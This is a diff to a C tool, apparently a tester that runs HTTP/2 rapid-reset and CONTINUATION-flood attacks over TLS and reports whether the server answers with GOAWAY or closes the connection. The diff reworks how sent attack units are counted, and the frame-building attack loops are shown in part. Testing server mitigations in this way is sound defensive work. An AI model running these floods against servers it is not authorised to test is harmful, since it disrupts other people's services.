@@ -20,7 +20,7 @@
  * --timeout seconds from the start, default 10) and prints one line:
  *     goaway=1 error=ENHANCE_YOUR_CALM closed=1 sent=N
  * (goaway=0 error=- when no GOAWAY came; sent counts the attack's units
- * written before the server closed). Exit 0 when the server reacted
+ * that went whole into the socket before the server closed it). Exit 0 when the server reacted
  * (GOAWAY or closed) within the timeout, 1 when not, 2 on a usage or
  * connection error.
  *
@@ -146,6 +146,8 @@ connect_tls(void)
 
 	ctx = SSL_CTX_new(TLS_method());
 	SSL_CTX_set_min_proto_version(ctx, TLS1_2_VERSION);
+	/* Each record counts as written once it is (see units_sent). */
+	SSL_CTX_set_mode(ctx, SSL_MODE_ENABLE_PARTIAL_WRITE);
 	if (SSL_CTX_set_alpn_protos(ctx, alpn, 3) != 0)
 		die("alpn");
 	if (opt_ca != NULL) {
@@ -175,10 +177,12 @@ connect_tls(void)
 	SSL_CTX_free(ctx);
 }
 
-/* The output buffer: frames of whole attack units, written in batches. */
+/* The output buffer, written in batches. Every unit of an attack has the
+ * same size, so the units sent are counted from the bytes written. */
 static uint8_t	 out[65536];
 static size_t	 outlen;
-static unsigned long units_buffered, units_sent;
+static unsigned long long written, attack_start;
+static size_t	 unit_size;
 
 /* Write what is buffered; -1 when the server is gone (or the deadline). */
 static int
@@ -190,15 +194,23 @@ flush(void)
 		int r = SSL_write(ssl, out + off, (int)(outlen - off));
 		if (r > 0) {
 			off += (size_t)r;
+			written += (unsigned long long)r;
 			continue;
 		}
 		if (ssl_wait(r) != 0)
 			return -1;
 	}
 	outlen = 0;
-	units_sent += units_buffered;
-	units_buffered = 0;
 	return 0;
+}
+
+/* Units of the attack written whole. */
+static unsigned long long
+units_sent(void)
+{
+	if (unit_size == 0 || written < attack_start)
+		return 0;
+	return (written - attack_start) / unit_size;
 }
 
 static void
@@ -291,13 +303,14 @@ attack(void)
 		n = hp_get(blk);
 		frame(F_HEADERS, 0, 1, blk, n);
 	}
+	attack_start = written + outlen;
 	for (i = 0; i < opt_n; i++) {
+		size_t before = outlen;
+
 		switch (opt_attack) {
 		case A_RAPID_RESET: {
 			uint32_t id = (uint32_t)(2 * i + 1);
 
-			if (id > 0x7fffffff)
-				return;
 			n = hp_get(blk);
 			frame(F_HEADERS, FL_END_HEADERS, id, blk, n);
 			frame(F_RST_STREAM, 0, id, rst, 4);
@@ -306,7 +319,8 @@ attack(void)
 		case A_CONTINUATION: {
 			char name[32];
 
-			snprintf(name, sizeof(name), "x-c%lu", i);
+			/* Fixed width: every frame the same size. */
+			snprintf(name, sizeof(name), "x-c%09lu", i % 1000000000);
 			n = hp_literal(blk, name, value);
 			frame(F_CONTINUATION, 0, 1, blk, n);
 			break;
@@ -321,7 +335,7 @@ attack(void)
 		case A_NONE:
 			return;
 		}
-		units_buffered++;
+		unit_size = outlen - before;
 		if (outlen > sizeof(out) - 4096 && flush() != 0)
 			return;
 	}
@@ -427,7 +441,8 @@ main(int argc, char **argv)
 			opt_n = strtoul(v, NULL, 10);
 		}
 	}
-	if (opt_attack == A_NONE || opt_timeout <= 0)
+	/* Stream ids stay below 2^31. */
+	if (opt_attack == A_NONE || opt_timeout <= 0 || opt_n > 1UL << 30)
 		usage();
 	if (opt_authority == NULL)
 		opt_authority = opt_sni != NULL ? opt_sni : "localhost";
@@ -438,7 +453,7 @@ main(int argc, char **argv)
 	connect_tls();
 	attack();
 	read_until_closed(&goaway, &code);
-	printf("goaway=%d error=%s closed=%d sent=%lu\n", goaway,
-	    goaway ? err_name(code) : "-", closed, units_sent);
+	printf("goaway=%d error=%s closed=%d sent=%llu\n", goaway,
+	    goaway ? err_name(code) : "-", closed, units_sent());
 	return goaway || closed ? 0 : 1;
 }
